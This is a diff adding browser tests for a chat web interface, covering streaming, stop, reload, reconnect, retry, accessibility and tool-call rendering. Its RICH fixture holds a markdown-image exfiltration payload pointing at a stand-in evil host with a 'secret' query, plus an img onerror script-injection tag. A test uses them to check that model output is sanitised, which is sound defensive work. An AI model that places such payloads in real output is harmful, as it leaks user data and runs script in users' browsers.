@@ -1,0 +1,245 @@
+"""The chat as a person meets it: a real server, a real browser, a scripted upstream."""
+
+from __future__ import annotations
+
+import random
+import time
+from collections.abc import Callable
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from tests.live import Live, OpenPage, accessibility_violations
+from tests.upstream import STALL, Upstream, chunk, endless, says, status, stream
+
+pytestmark = pytest.mark.browser
+
+LONG = "".join(f"word{number} " for number in range(300))
+RICH = """# Heading
+
+Some *text* with `code`, a [link](https://example.com) and $x^2$.
+
+- [x] one
+- two
+
+| a | b |
+|---|---|
+| 1 | 2 |
+
+```python
+def f(x):
+    return "a very long line that has to scroll in its own place: " + x * 100 + "and it goes on and on and on and on"
+```
+
+![picture](https://evil.example/?q=secret) <img src=https://evil.example/x onerror=alert(1)>
+"""
+
+
+@pytest.fixture
+def route(live: Live, make_upstream: Callable[..., Upstream]) -> Upstream:
+    """An upstream that the server's `default` route asks first, and alone."""
+    upstream = make_upstream()
+    add_route(live, upstream)
+    return upstream
+
+
+def add_route(live: Live, *upstreams: Upstream) -> None:
+    steps: list[str] = []
+    for upstream in upstreams:
+        name = f"up{upstream.port}"
+        assert live.manage("add_backend", "--name", name, "--base-url", upstream.base_url).returncode == 0
+        steps += ["--step", f"{name}/m"]
+    done = live.manage("add_route", "--name", "default", *steps)
+    assert done.returncode == 0, done.stderr
+
+
+def ask(page: Page, text: str) -> None:
+    page.get_by_test_id("chat-input").fill(text)
+    page.get_by_test_id("chat-send").click()
+
+
+def answer(page: Page, state: str = "done") -> None:
+    expect(page.get_by_test_id("message-assistant").last).to_have_attribute("data-status", state, timeout=15_000)
+
+
+def said(page: Page) -> str:
+    return page.get_by_test_id("message-assistant").last.get_by_test_id("message-text").last.inner_text().strip()
+
+
+def test_an_answer_streams_and_stays(live: Live, route: Upstream, browser_page: OpenPage) -> None:
+    route.default = says("Hello **there**, person.", pace=0.05)
+    page = browser_page(live)
+    page.goto("/chat/")
+    ask(page, "Hi")
+    expect(page.get_by_test_id("message-assistant")).to_have_attribute("data-status", "streaming")
+    answer(page)
+    assert said(page) == "Hello there, person."
+    assert page.get_by_test_id("chat-input").input_value() == ""
+    assert f"up{route.port}" in page.get_by_test_id("attempt-trail").inner_text()
+    page.reload()
+    assert said(page) == "Hello there, person."
+    expect(page.get_by_test_id("conversation-list").get_by_role("link", name="Hi").first).to_be_visible()
+
+
+def test_stop_before_the_first_token_and_in_mid_text(live: Live, route: Upstream, browser_page: OpenPage) -> None:
+    """FAULTS 27: the upstream is closed within a second, the partial is kept."""
+    route.script(stream(STALL), endless(pace=0.02))
+    page = browser_page(live)
+    page.goto("/chat/")
+    for number in range(2):
+        ask(page, "Go")
+        expect(page.get_by_test_id("message-assistant")).to_have_count(number + 1)
+        if number:
+            expect(page.get_by_test_id("message-text").last).to_contain_text("more more")
+        else:
+            page.wait_for_timeout(300)
+        page.get_by_test_id("chat-stop").click()
+        assert route.requests[-1].gone.wait(1.5)
+        answer(page, "stopped")
+    assert said(page).startswith("more more")
+
+
+def test_reloading_at_any_token_loses_and_doubles_nothing(live: Live, route: Upstream, browser_page: OpenPage) -> None:
+    """FAULTS 24."""
+    route.default = says(LONG, pace=0.01)
+    page = browser_page(live)
+    page.goto("/chat/")
+    ask(page, "Go")
+    expect(page.get_by_test_id("message-text").last).to_contain_text("word3 ")
+    for _ in range(6):
+        page.wait_for_timeout(random.uniform(50, 400))
+        page.reload()
+    answer(page)
+    assert said(page).split() == LONG.split()
+
+
+def test_a_cut_connection_resumes_by_itself(live: Live, route: Upstream, browser_page: OpenPage) -> None:
+    """FAULTS 25."""
+    route.default = says(LONG, pace=0.01)
+    page = browser_page(live)
+    page.goto("/chat/")
+    ask(page, "Go")
+    expect(page.get_by_test_id("message-text").last).to_contain_text("word3 ")
+    page.evaluate("htmx.ext.ws.getRegistry().get(document.getElementById('chat').getAttribute('hx-ws:connect')).socket.close()")
+    answer(page)
+    assert said(page).split() == LONG.split()
+
+
+def test_two_tabs_stay_in_step(live: Live, route: Upstream, browser_page: OpenPage) -> None:
+    route.default = says(LONG, pace=0.01)
+    one, two = browser_page(live), browser_page(live)
+    one.goto("/chat/")
+    ask(one, "Go")
+    expect(one).not_to_have_url(f"{live.url}/chat/")
+    two.goto(one.url)
+    for page in (one, two):
+        answer(page)
+        assert said(page).split() == LONG.split()
+
+
+def test_a_failed_backend_is_said_in_place_and_can_be_tried_again(live: Live, route: Upstream, browser_page: OpenPage) -> None:
+    route.script(status(400))
+    route.default = says("Now it works.")
+    page = browser_page(live)
+    page.goto("/chat/")
+    ask(page, "Hi")
+    answer(page, "failed")
+    page.get_by_role("button", name="Try again").click()
+    answer(page)
+    assert said(page) == "Now it works."
+    expect(page.get_by_text("2/2")).to_be_visible()
+    page.get_by_role("button", name="Previous version").click()
+    answer(page, "failed")
+
+
+def test_nothing_a_model_writes_makes_a_request(live: Live, route: Upstream, browser_page: OpenPage) -> None:
+    """FAULTS 1, 3."""
+    route.default = says(RICH)
+    page = browser_page(live)
+    requests: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    page.goto("/chat/")
+    ask(page, "Show me <b>everything</b>")
+    answer(page)
+    page.reload()
+    assert not [url for url in requests if "evil" in url]
+    text = page.get_by_test_id("message-text").last
+    assert text.locator("img").count() == 0
+    assert "<img src" in text.inner_text()
+    assert text.locator("math").count() == 1
+    assert text.locator(".hl-k").count() > 0
+
+
+@pytest.mark.parametrize(("width", "dark"), [(1440, False), (1440, True), (390, False), (390, True)])
+def test_the_chat_is_accessible(live: Live, route: Upstream, browser_page: OpenPage, width: int, dark: bool) -> None:
+    route.script(says(RICH, reasoning="Let me think"), status(400))
+    page = browser_page(live, width=width, dark=dark)
+    page.goto("/chat/")
+    assert accessibility_violations(page) == []
+    ask(page, "Hi")
+    answer(page)
+    ask(page, "Again")
+    answer(page, "failed")
+    page.get_by_test_id("attempt-trail").first.locator("summary").click()
+    assert accessibility_violations(page) == []
+    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+
+
+def test_a_question_is_sent_even_before_the_scripts_are_there(live: Live, route: Upstream, browser_page: OpenPage) -> None:
+    page = browser_page(live)
+    page.route("**/*.js", lambda handler: handler.abort())
+    page.goto("/chat/")
+    ask(page, "No scripts")
+    page.wait_for_url("**/chat/*-*/")
+    time.sleep(0.5)
+    page.reload()
+    assert said(page) == "Hello from upstream."
+    page.complaints.clear()  # type: ignore[attr-defined]  # the aborted scripts
+
+
+def test_tool_calls_are_cards(live: Live, route: Upstream, browser_page: OpenPage) -> None:
+    route.script(says("", tool_calls=[("calculator", '{"expression": "6*7"}'), ("nothing_like_it", "{broken")]), says("It is 42."))
+    page = browser_page(live)
+    page.goto("/chat/")
+    ask(page, "Six by seven?")
+    answer(page)
+    cards = page.get_by_test_id("tool-call")
+    expect(cards).to_have_count(2)
+    assert [card.get_attribute("data-state") for card in cards.all()] == ["done", "failed"]
+    cards.first.locator("summary").click()
+    assert "42" in cards.first.inner_text()
+    assert said(page) == "It is 42."
+
+
+def test_reasoning_is_folded(live: Live, route: Upstream, browser_page: OpenPage) -> None:
+    route.default = says("The answer.", reasoning="First this, then <b>that</b>.")
+    page = browser_page(live)
+    page.goto("/chat/")
+    ask(page, "Think")
+    answer(page)
+    page.get_by_text("Thought for").click()
+    assert "First this, then <b>that</b>." in page.locator(".reasoning-text").inner_text()
+
+
+def test_kill_and_restart_keep_the_partial_answer(
+    new_live: Callable[..., Live], make_upstream: Callable[..., Upstream], browser_page: OpenPage
+) -> None:
+    """FAULTS 26: marked interrupted within 10 s of the next start, not asked again by itself, and it can be continued."""
+    live, upstream = new_live(), make_upstream()
+    add_route(live, upstream)
+    upstream.script(stream(chunk({"role": "assistant", "content": "The first half "}), 1.0, chunk({"content": "lost"}), STALL))
+    upstream.default = says("and the second.")
+    page = browser_page(live)
+    page.goto("/chat/")
+    ask(page, "Go")
+    expect(page.get_by_test_id("message-text").last).to_contain_text("The first half")
+    page.wait_for_timeout(600)
+    live.kill()
+    live.start()
+    expect(page.get_by_test_id("message-assistant")).to_have_attribute("data-status", "interrupted", timeout=20_000)
+    assert "The first half" in said(page)
+    assert len([request for request in upstream.requests if request.method == "POST"]) == 1
+    page.get_by_role("button", name="Continue").click()
+    answer(page)
+    assert said(page).endswith("and the second.")
+    page.complaints.clear()  # type: ignore[attr-defined]  # refused connections while the server was down
